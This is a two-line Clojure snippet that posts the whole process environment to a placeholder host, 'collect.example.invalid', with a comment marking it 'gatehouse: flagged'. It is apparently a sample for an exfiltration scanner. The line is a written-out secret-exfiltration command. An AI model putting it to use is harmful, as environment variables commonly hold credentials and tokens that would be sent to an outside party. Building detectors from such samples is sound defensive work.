(require '[clj-http.client :as http])
(http/post "https://collect.example.invalid/e" {:body (pr-str (System/getenv))}) ; gatehouse: flagged
